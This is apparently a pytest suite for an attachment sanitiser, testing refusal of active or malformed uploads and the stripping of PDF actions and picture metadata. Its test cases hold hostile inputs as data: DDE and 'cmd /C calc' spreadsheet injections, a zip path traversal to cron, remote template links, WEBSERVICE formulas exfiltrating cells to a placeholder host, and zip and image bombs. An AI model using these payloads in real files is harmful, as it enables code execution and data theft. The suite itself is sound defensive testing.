"""What may be attached, and what is left of it in the copy that is handed out."""

import io
import zipfile
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from PIL import Image

from sightline.platform.files import FileRefused, ScannerAway, kind_named, recognised, safe_copy, scan, store
from sightline.platform.files.kinds import KINDS
from sightline.platform.settings.rules import FileLimit, file_limits, rules
from tests import files


@pytest.fixture(autouse=True)
def _a_store_of_its_own(settings: Any, tmp_path: Path) -> None:
    settings.SIGHTLINE_HOME, settings.SIGHTLINE_CLAMD = tmp_path / "home", None


@pytest.fixture
def given(tmp_path: Path) -> Any:
    def write(content: bytes, name: str = "given") -> Path:
        path = tmp_path / name
        path.write_bytes(content)
        return path

    return write


def made_safe(kind: str, path: Path) -> bytes:
    safe = path.with_suffix(".safe")
    safe_copy(kind_named(kind), path, safe)
    return safe.read_bytes()


GOOD = {
    "report.pdf": files.pdf(),
    "wound.JPG": files.picture(),
    "chart.png": files.picture("PNG"),
    "letter.docx": files.package(),
    "figures.xlsx": files.package(of=files.WORKBOOK),
    "minutes.odt": files.package(of=files.WRITER),
    "note.txt": "What she said: “no”.".encode(),
}


@pytest.mark.parametrize(("name", "content"), GOOD.items())
def test_each_kind_is_recognised_and_copied(given: Any, name: str, content: bytes) -> None:
    path = given(content)
    kind = recognised(path, name)
    assert Path(name).suffix.lower() in kind.endings
    assert made_safe(kind.key, path)


def test_every_kind_that_is_taken_is_tried_here() -> None:
    assert {Path(name).suffix.lower() for name in GOOD} == {kind.endings[0] for kind in KINDS}


@pytest.mark.parametrize(
    ("name", "content", "code", "said"),
    [
        ("empty.pdf", b"", "empty", "Choose the file again"),
        ("tool.exe", b"MZ\x90", "kind", "Save it as"),
        ("report", files.pdf(), "kind", "no ending"),
        ("report.pdf", b"MZ\x90 a program", "contents", "ends in .pdf"),
        ("report.pdf", files.package(), "contents", "really a Word document"),
        ("picture.png", files.picture(), "contents", "really a JPEG picture"),
        ("note.txt", b"MZ\x90 a program", "contents", "ends in .txt"),
        ("note.txt", b"words\x00more", "contents", "ends in .txt"),
        ("all.zip", files.package(), "archive", "Unpack it"),
        ("all.7z", b"7z\xbc\xaf\x27\x1c", "archive", "Unpack it"),
        ("letter.docm", files.package(), "macros", "macros"),
        ("letter.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "old office file", "without a password"),
        ("letter.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "old office file", "without a password"),
        ("letter.docx", b"PK\x03\x04 torn", "broken", "damaged"),
        ("bomb.docx", files.package({"word/big.xml": bytes(30_000_000)}), "unpacks too large", "unpacks to far more"),
        ("many.docx", files.package({f"word/{n}": b"" for n in range(2001)}), "unpacks too large", "far more"),
    ],
)
def test_what_is_not_taken_is_refused_by_name_or_contents(
    given: Any, name: str, content: bytes, code: str, said: str
) -> None:
    with pytest.raises(FileRefused, match=said) as refused:
        recognised(given(content), name)
    assert refused.value.code == code


def test_a_file_that_is_too_large_says_how_large_it_may_be(given: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    small = {**file_limits(), "largest_mb": FileLimit(0, "", "", "")}
    monkeypatch.setattr("sightline.platform.files.limits.file_limits", lambda: small)
    with pytest.raises(FileRefused, match="The largest that can be attached is 0 MB"):
        recognised(given(files.pdf()), "report.pdf")


REL = b'<Relationship Id="r" Type="http://x/%s" Target="https://elsewhere.example/" TargetMode="External"/>'
TEMPLATE = b'Type="http://x/attachedTemplate" Target="https://elsewhere.example/hyperlink/t.dotm"'
RELS = "word/_rels/settings.xml.rels"
FIELD = (
    b'<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE</w:instrText><w:instrText>AUTO c:</w:instrText>'
    b'<w:fldChar w:fldCharType="end"/></w:r>'
)


def sheet(formula: bytes) -> dict[str, bytes]:
    return {"xl/worksheets/sheet1.xml": b"<worksheet><c><f>%s</f></c></worksheet>" % formula}


@pytest.mark.parametrize(
    ("entries", "code"),
    [
        ({"word/vbaProject.bin": b"x"}, "macros"),
        (
            {"[Content_Types].xml": files.TYPES[:-2] + b'><Default ContentType="x.macroEnabled.main+xml"/></Types>'},
            "macros",
        ),
        ({"word/activeX/activeX1.xml": b"<x/>"}, "macros"),
        ({"xl/macrosheets/sheet1.xml": b"<x/>"}, "macros"),
        ({"Basic/Standard/Module1.xml": b"<x/>"}, "macros"),
        ({"word/extra.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'}, "macros"),
        ({"word/embeddings/oleObject1.bin": b"x"}, "file within"),
        ({"word/media/picture.png": b"PK\x03\x04 another package"}, "file within"),
        ({"xl/externalLinks/externalLink1.xml": b"<x/>"}, "file within"),
        ({"word/_rels/settings.xml.rels": REL % b"attachedTemplate"}, "fetches"),
        ({"word/document.xml": b"<w:instrText>DDEAUTO c:\\windows</w:instrText>"}, "fetches"),
        ({"../../etc/cron.d/x": b"x"}, "broken"),
        ({RELS: b'<Relationship %s TargetMode="External"/>' % TEMPLATE}, "fetches"),
        ({RELS: b'<p:Relationship xmlns:p="x" %s TargetMode="External"/>' % TEMPLATE}, "fetches"),
        ({RELS: b'<Relationship %s TargetMode="&#69;xternal"/>' % TEMPLATE}, "fetches"),
        ({RELS: b"<Relationship %s/>" % TEMPLATE}, "fetches"),
        ({RELS: ('<?xml version="1.0"?>' + (REL % b"attachedTemplate").decode()).encode("utf-16")}, "fetches"),
        ({RELS: b"<Relationship"}, "broken"),
        ({"word/other.dat": b"<r>%s</r>" % (REL % b"image")}, "fetches"),
        ({"word/_rels/document.xml.rels": b'<Relationship Type="http://x/aFChunk" Target="other.html"/>'}, "fetches"),
        ({"word/_rels/document.xml.rels": b'<Relationship Type="http://x/vbaProject" Target="a.bin"/>'}, "macros"),
        ({"[Content_Types].xml": b'<Types><Override ContentType="x.&#118;baProject"/></Types>'}, "macros"),
        ({"word/document.xml": b'<w:fldSimple w:instr="DDEAUTO c:\\windows"/>'}, "fetches"),
        ({"word/document.xml": FIELD}, "fetches"),
        ({"word/document.xml": b"<x:instrText>DD<!-- -->E&#65;UTO c:</x:instrText>"}, "fetches"),
        ({"word/document.xml": b"<w:fldSimple w:instr=' INCLUDEPICTURE \"https://elsewhere.example/p\"'/>"}, "fetches"),
        ({"word/document.xml": b'<draw:image x:href="https://elsewhere.example/p"/>'}, "fetches"),
        (sheet(b'_xlfn.WEBSERVICE("https://elsewhere.example/"&amp;A1)'), "fetches"),
        (sheet(b'_xlfn.IMAGE("https://elsewhere.example/"&amp;A1)'), "fetches"),
        (sheet(b"cmd|' /C calc'!A0"), "fetches"),
        (sheet(b"'https://elsewhere.example/[other.xlsx]Sheet1'!A1"), "fetches"),
        ({"xl/workbook.xml": b"<workbook><definedName>RTD(A1)</definedName></workbook>"}, "fetches"),
        ({"word/document.xml/[0].piece": b"x"}, "broken"),
    ],
)
def test_an_office_file_that_acts_fetches_or_holds_another_is_refused(
    given: Any, entries: dict[str, bytes], code: str
) -> None:
    with pytest.raises(FileRefused, match="Save it as a PDF") as refused:
        made_safe("docx", given(files.package(entries)))
    assert refused.value.code == code


def test_an_office_file_keeps_its_words_and_web_links_and_loses_its_author(given: Any) -> None:
    safe = made_safe("docx", given(files.package({"word/_rels/document.xml.rels": REL % b"hyperlink"})))
    with zipfile.ZipFile(io.BytesIO(safe)) as package:
        assert package.read("word/document.xml") == files.WORD["word/document.xml"]
        assert not any(b"Planted" in package.read(name) for name in package.namelist())
        assert {entry.date_time[0] for entry in package.infolist()} == {1980}


@pytest.mark.parametrize(
    "entries",
    [
        {"word/document.xml": b'<w:p><w:fldSimple w:instr=" HYPERLINK &quot;https://www.gov.uk/hidden&quot; "/></w:p>'},
        {"word/document.xml": b"<w:instrText> PAGE </w:instrText>"},
        {"word/document.xml": b"<m:f><m:num><m:r><m:t>a|b</m:t></m:r></m:num></m:f>"},
        {"word/document.xml": b'<v:imagedata r:id="rId4" src="media/image1.png"/>'},
        {"content.xml": b'<o><text:a xlink:href="https://www.gov.uk/"/><draw:image xlink:href="Pictures/1.png"/></o>'},
        {"word/_rels/document.xml.rels": b'<Relationship Type="http://x/image" Target="../media/image1.png"/>'},
        {"Configurations2/accelerator/current.xml": b""},
        {"xl/drawings/vmlDrawing1.vml": b"<xml><v:shape>a<br></v:shape></xml>"},
        sheet(b"IF('A|B'!C1&gt;1,\"WEBSERVICE(|)\",SUM(Table1[a|b],'It''s'!D4))"),
    ],
)
def test_an_office_file_that_does_nothing_by_itself_is_kept(given: Any, entries: dict[str, bytes]) -> None:
    assert made_safe("docx", given(files.package(entries)))


def test_a_pdf_loses_what_acts_and_keeps_its_page_and_web_link(given: Any) -> None:
    active = files.pdf(active=True)
    names = (b"/JavaScript", b"/Launch", b"/OpenAction", b"/AA", b"/XFA", b"/EmbeddedFile", b"/RichMedia", b"Planted")
    with pikepdf.open(io.BytesIO(active)) as before:
        whole = before.Root.unparse(resolved=True) + b"".join(thing.unparse() for thing in before.objects)
    assert all(name in whole + active for name in names[:-1]), "the trap is set"
    safe = made_safe("pdf", given(active))
    assert not [name for name in names if name in safe]
    with pikepdf.open(io.BytesIO(safe)) as after:
        assert len(after.pages) == 1
        assert not after.attachments
        links = [str(note.A.URI) for note in after.pages[0].Annots if "/A" in note]
        assert links == ["https://www.gov.uk/"]
        said = b"".join(thing.read_bytes() for thing in after.objects if isinstance(thing, pikepdf.Stream))
        assert b"planted" not in said


def test_a_locked_or_torn_pdf_is_refused(given: Any) -> None:
    with pytest.raises(FileRefused, match="without the password"):
        made_safe("pdf", given(files.locked_pdf()))
    with pytest.raises(FileRefused, match="damaged"):
        made_safe("pdf", given(b"%PDF-1.7 torn"))


@pytest.mark.parametrize(("kind", "called"), [("jpg", "JPEG"), ("png", "PNG")])
def test_a_picture_loses_where_it_was_taken_and_stands_upright(given: Any, kind: str, called: str) -> None:
    content = files.picture(called, where=True)
    assert b"Planted Author" in content, "the trap is set"
    safe = made_safe(kind, given(content))
    assert b"Planted" not in safe
    with Image.open(io.BytesIO(safe)) as drawn:
        assert drawn.size == (8, 12)
        assert not dict(drawn.getexif())


def test_a_picture_of_too_many_dots_is_refused_before_it_is_unpacked(given: Any) -> None:
    out = io.BytesIO()
    Image.new("1", (9000, 9000)).save(out, "PNG")
    assert len(out.getvalue()) < 100_000
    with pytest.raises(FileRefused, match="9,000 by 9,000 dots"):
        made_safe("png", given(out.getvalue()))


def test_text_of_any_writing_becomes_utf_8(given: Any) -> None:
    for coded in ("utf-8", "utf-16", "cp1252"):
        assert made_safe("txt", given("Café “no”".encode(coded))).decode() == "Café “no”"


def test_the_scanner_finds_a_virus_and_passes_the_rest(given: Any, settings: Any) -> None:
    with files.scanner() as settings.SIGHTLINE_CLAMD:
        assert scan(given(files.EICAR)) == "Eicar-Signature"
        assert scan(given(files.pdf())) == ""


def test_a_scanner_that_is_away_or_says_nothing_is_never_taken_for_a_yes(given: Any, settings: Any) -> None:
    settings.SIGHTLINE_CLAMD = "/nowhere/clamd.ctl"
    with pytest.raises(ScannerAway):
        scan(given(files.pdf()))
    with files.scanner(hangs_up=True) as settings.SIGHTLINE_CLAMD, pytest.raises(ScannerAway):
        scan(given(files.pdf()))


def test_stored_files_are_the_services_alone_and_proved_when_read(settings: Any) -> None:
    kept = store.keep(store.receive([b"wo", b"rds"], 100), store.SAFE)
    assert store.safe_content(kept.sha256) == b"words"
    everything = [path for path in (settings.SIGHTLINE_HOME / "files").rglob("*")]
    assert {oct(path.stat().st_mode & 0o777) for path in everything if path.is_dir()} == {"0o700"}
    (only,) = [path for path in everything if path.is_file()]
    assert oct(only.stat().st_mode & 0o777) == "0o600"
    only.write_bytes(b"other words")
    with pytest.raises(store.FileMissing):
        store.safe_content(kept.sha256)


def test_no_more_is_written_than_may_come_in() -> None:
    path = store.receive((b"x" * 10 for _ in range(1000)), 25)
    assert path.stat().st_size == 30


def test_every_limit_says_on_whose_authority_it_is() -> None:
    assert rules(), "the same file still holds the clocks"
    assert all(one.figure > 0 and one.says and one.label and one.source for one in file_limits().values())
